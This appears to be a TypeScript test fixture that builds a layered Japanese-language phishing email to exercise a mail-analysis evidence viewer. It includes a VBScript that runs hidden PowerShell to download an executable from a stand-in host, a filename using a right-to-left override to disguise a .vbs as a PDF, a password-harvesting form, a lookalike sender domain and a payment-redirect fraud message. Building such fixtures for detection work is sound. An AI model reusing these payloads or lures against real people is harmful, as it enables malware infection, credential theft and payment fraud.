import { mailBytes, zipOf } from '../hub/src/testing/mails.ts'

/** A QR code of `https://a.example/x?e=abc`, made with qrencode 4.1. */
const CODE =
  'iVBORw0KGgoAAAANSUhEUgAAAGMAAABjAQMAAAC19SzWAAAABlBMVEUAAAD///+l2Z/dAAAAAnRSTlP//8i138cAAAAJcEhZcwAACxIAAAsSAdLdfvwAAADtSURBVDiNzdS7bQQhEAbgQRuQnRtAog0yWoIGjGlgtyUy2kCiAcgIkMdzupMfwe4Q2JL/iC9AzGO1gN8D/1gNwA/lEwhOHaeT4DMdOCUV0nZk8CvKJazJUe0rwukH6bOyU937yz+6PROlJ92/JniqJouT04GOnOjGLovIldW7UVR1xEd/V8KBu50hV+TU7LwZfaTnJC6Eue5Wx4SRUwMlMu22eE6Ug5ZmNuTUbLlJWq8+OFFowB5150S7DaP2zOv+XcMU+HjhUkm9Gv0GSwpD71a9LMgBiLFFVlSLmT5p5ET90cCarJ3T3/97fkMfsza8UG2ylrQAAAAASUVORK5CYII='

/** A mail with everything the evidence tree can show: pictures, archives, mails in mails, what stays closed. */
export function layeredMail(members = 3): Buffer {
  const code = Buffer.from(CODE, 'base64')
  const script = Buffer.from(
    'Set sh = CreateObject("WScript.Shell")\r\nsh.Run "powershell -w hidden -c iwr https://drop.mailbox-relay.test/a.exe"\r\n',
  )
  const page = Buffer.from(
    '<html><head><meta http-equiv="refresh" content="3;url=https://gate.mailbox-relay.test/"></head>' +
      '<body><h1>ご確認のお願い</h1><form action="https://gate.mailbox-relay.test/in"><input type="password"></form></body></html>',
  )
  const papers = zipOf([
    { name: '請求明細\u202efdp.vbs', bytes: script },
    { name: 'お知らせ.html', bytes: page },
    { name: '前回のやり取り.eml', bytes: innerMail() },
    ...Array.from({ length: members }, (_, at) => ({
      name: `明細-${at + 1}.txt`,
      bytes: Buffer.from(`明細の${at + 1}枚目です。\r\n`),
    })),
  ])
  return Buffer.from(
    [
      'Received: from mx1.shiomizaka-seiki.example ([10.0.0.4]) by box.shiomizaka-seiki.example with ESMTPS; Wed, 14 Oct 2026 09:03:40 +0900',
      'Received: from relay.irabu-va1ve.example ([192.0.2.44]) by mx1.shiomizaka-seiki.example with ESMTPS; Wed, 14 Oct 2026 09:00:05 +0900',
      'Received: from desk.irabu-valve.example ([203.0.113.9]) by relay.irabu-va1ve.example with ESMTP; Wed, 14 Oct 2026 09:20:00 +0900',
      'Authentication-Results: mx1.shiomizaka-seiki.example; spf=pass smtp.mailfrom=irabu-va1ve.example; dkim=none; dmarc=none header.from=irabu-va1ve.example',
      'Return-Path: <bounce-7714@mailbox-relay.test>',
      'From: "Irabu Valve" <billing@irabu-va1ve.example>',
      'To: provider@shiomizaka-seiki.example',
      'Reply-To: payments@mailbox-relay.test',
      'Subject: =?utf-8?B?44CQ6YeN6KaB44CR44GK5pSv5omV44GE5pa55rOV44Gu5aSJ5pu044Gr44Gk44GE44Gm?=',
      'Date: Wed, 14 Oct 2026 09:00:00 +0900',
      'Message-ID: <layers@irabu-va1ve.example>',
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=outer',
      '',
      '--outer',
      'Content-Type: multipart/alternative; boundary=inner',
      '',
      '--inner',
      'Content-Type: text/plain; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      'いつもお世話になっております。伊良部バルブの経理担当です。',
      '本日17時までに、下記の新しい口座へお振込みください。ほかの方には内密にお願いいたします。',
      'https://pay.mailbox-relay.test/confirm?u=cHJvdmlkZXJAc2hpb21pemFrYS1zZWlraS5leGFtcGxl',
      '--inner',
      'Content-Type: text/html; charset=utf-8',
      'Content-Transfer-Encoding: 8bit',
      '',
      '<p>いつもお世話になっております。<b>本日17時まで</b>に下記をご確認ください。</p>',
      '<p><a href="https://files.mailbox-relay.test/invoice.pdf.html"><img src="cid:icon" width="99"></a></p>',
      '<p><a href="https://pay.mailbox-relay.test/confirm?u=cHJvdmlkZXJAc2hpb21pemFrYS1zZWlraS5leGFtcGxl">https://irabu-valve.example/pay</a></p>',
      '--inner--',
      ...attached('image/png', 'icon.png', code, ['Content-ID: <icon>']),
      ...attached('application/zip', '書類一式.zip', papers),
      ...attached('application/octet-stream', '控え.zip', papers),
      ...attached('application/zip', '開けない書庫.zip', lockedZip()),
      ...attached(
        'image/svg+xml',
        'stamp.svg',
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>'),
      ),
      '--outer',
      'Content-Type: message/rfc822',
      'Content-Disposition: attachment; filename=original.eml',
      '',
      innerMail().toString('utf8'),
      '--outer--',
      '',
    ].join('\r\n'),
  )
}

function innerMail(): Buffer {
  return mailBytes({
    from: '"伊良部バルブ" <keiri@irabu-valve.example>',
    subject: 'Invoice 2026-09',
    text: '先月分の請求書をお送りします。\r\nhttps://irabu-valve.example/invoices/9\r\n',
  })
}

function attached(
  type: string,
  name: string,
  bytes: Buffer,
  more: readonly string[] = [],
): string[] {
  return [
    '--outer',
    `Content-Type: ${type}`,
    `Content-Disposition: attachment; filename*=utf-8''${encodeURIComponent(name)}`,
    ...more,
    'Content-Transfer-Encoding: base64',
    '',
    (bytes.toString('base64').match(/.{1,76}/g) ?? []).join('\r\n'),
  ]
}

/** An archive whose one member is marked as enciphered (APPNOTE §4.4.4, bit 0), with a password nobody knows. */
function lockedZip(): Buffer {
  const zip = zipOf([{ name: 'お見積書.docx', bytes: Buffer.from('x'.repeat(64)) }])
  const directory = zip.indexOf('PK\x01\x02', 0, 'latin1')
  zip.writeUInt16LE(zip.readUInt16LE(6) | 1, 6)
  zip.writeUInt16LE(zip.readUInt16LE(directory + 8) | 1, directory + 8)
  return zip
}
